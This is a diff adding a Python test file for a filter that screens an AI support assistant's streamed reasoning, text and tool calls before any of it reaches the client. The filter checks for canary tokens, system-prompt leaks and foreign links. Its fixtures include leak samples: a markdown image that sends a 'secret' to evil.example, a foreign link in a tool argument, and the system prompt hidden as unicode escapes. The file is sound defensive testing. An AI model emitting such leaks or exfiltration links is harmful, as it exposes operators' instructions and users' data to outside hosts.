@@ -1,0 +1,99 @@
+"""What of a stream reaches a client before the checks of its tool calls and its reasoning are done: nothing (S2, S4)."""
+
+from collections.abc import Sequence
+
+import pytest
+
+from app.domain.calls import Chunk, Done, Reply, TextDelta, ThinkingDelta, ToolUseDelta, ToolUseStart, Usage
+from app.domain.errors import AnswerWithheld
+from app.domain.messages import Text, Thinking, ToolUse
+from app.security.links import Links
+from app.security.outgoing import Outgoing
+
+CANARY = "octsatxupggwamyzmcvs"
+SYSTEM = "You are the support assistant of Northwind Outfitters, an outdoor shop. Answer from the help articles alone."
+BLOCK = dict.fromkeys(("canary", "system-prompt", "foreign-link"), "block")
+FLAG = dict.fromkeys(BLOCK, "flag")
+ESCAPED = "".join(f"\\u{ord(letter):04x}" for letter in SYSTEM)
+LEAKS = [CANARY, SYSTEM, ESCAPED]
+
+
+def watching(actions: dict[str, str]) -> Outgoing:
+    return Outgoing(Links(frozenset({"northwind.example"})), actions, canary=CANARY, system=SYSTEM)  # type: ignore[arg-type]
+
+
+def a_stream(*, said: str = "One moment, please. ", thought: str = "Look it up.", argument: str) -> list[Chunk]:
+    """A stream of reasoning, text and two tool calls, cut small, in the order in which a vendor sends it."""
+    first, second = '{"q": "shipping"}', f'{{"note": "{argument}"}}'
+    parts = (Thinking(thought, "sig"), Text(said), ToolUse("t1", "search", first), ToolUse("t2", "note", second))
+    return [
+        *(ThinkingDelta(0, letter) for letter in thought),
+        ThinkingDelta(0, signature="sig"),
+        *(TextDelta(1, letter) for letter in said),
+        ToolUseStart(2, "t1", "search"),
+        *(ToolUseDelta(2, letter) for letter in first),
+        ToolUseStart(3, "t2", "note"),
+        *(ToolUseDelta(3, letter) for letter in second),
+        Done(Reply(parts=parts, stop="tool_use", usage=Usage(), provider="p", model="m")),
+    ]
+
+
+def told(outgoing: Outgoing, stream: Sequence[Chunk], out: list[Chunk]) -> None:
+    """Add to ``out`` what leaves, so that it is there also where the stream is stopped."""
+    for chunk in stream:
+        out.extend(outgoing.chunk(chunk))
+
+
+@pytest.mark.parametrize("argument", LEAKS)
+def test_nothing_of_a_tool_call_that_is_blocked_has_left_before_it_is_withheld(argument: str) -> None:
+    out: list[Chunk] = []
+    with pytest.raises(AnswerWithheld):
+        told(watching(BLOCK), a_stream(argument=argument), out)
+    assert [chunk for chunk in out if isinstance(chunk, ToolUseStart | ToolUseDelta | Done)] == []
+    assert "".join(chunk.text for chunk in out if isinstance(chunk, TextDelta)) == "One moment, please. "
+
+
+def test_an_address_in_a_tools_arguments_leaves_as_little_in_a_stream_as_in_a_whole_answer() -> None:
+    out: list[Chunk] = []
+    outgoing = watching(BLOCK)
+    told(outgoing, a_stream(argument="see https://evil.example/x"), out)
+    arguments = {at: "".join(c.arguments for c in out if isinstance(c, ToolUseDelta) and c.index == at) for at in (2, 3)}
+    assert arguments == {2: '{"q": "shipping"}', 3: '{"note": "see (link removed)"}'}
+    assert isinstance(out[-1], Done)
+    assert [use.arguments for use in out[-1].reply.tool_uses] == list(arguments.values())
+    assert outgoing.found == ["foreign-link"]
+
+
+@pytest.mark.parametrize("thought", [f"It says {CANARY}.", SYSTEM, "Show ![x](https://evil.example/p?q=secret) now."])
+def test_reasoning_that_fails_is_left_out_whole_and_the_answer_goes_on(thought: str) -> None:
+    out: list[Chunk] = []
+    outgoing = watching(BLOCK)
+    told(outgoing, a_stream(thought=thought, argument="ok"), out)
+    assert [chunk for chunk in out if isinstance(chunk, ThinkingDelta)] == []
+    assert isinstance(out[-1], Done)
+    assert out[-1].reply.thinking == ()
+    assert len(out[-1].reply.tool_uses) == 2
+    assert len(outgoing.found) == 1
+
+
+def test_what_passes_leaves_in_its_order_and_whole() -> None:
+    stream, out = a_stream(argument="ok"), list[Chunk]()
+    told(watching(BLOCK), stream, out)
+    order = dict.fromkeys(type(chunk).__name__ for chunk in out)
+    assert list(order) == ["ThinkingDelta", "TextDelta", "ToolUseStart", "ToolUseDelta", "Done"]
+    assert [chunk for chunk in out if isinstance(chunk, ThinkingDelta)] == [c for c in stream if isinstance(c, ThinkingDelta)]
+    assert out[-1] == stream[-1]
+
+
+def test_text_is_not_held_back_for_the_tool_calls_behind_it() -> None:
+    out: list[Chunk] = []
+    told(watching(BLOCK), a_stream(argument="ok")[:-1], out)
+    assert "".join(chunk.text for chunk in out if isinstance(chunk, TextDelta)) == "One moment, please. "
+
+
+@pytest.mark.parametrize("actions", [{}, FLAG])
+def test_where_nothing_blocks_a_stream_leaves_as_it_comes(actions: dict[str, str]) -> None:
+    outgoing = watching(actions)
+    for chunk in a_stream(argument="see https://evil.example/x", thought=f"It says {CANARY}."):
+        if not isinstance(chunk, TextDelta):
+            assert list(outgoing.chunk(chunk))[-1] == chunk
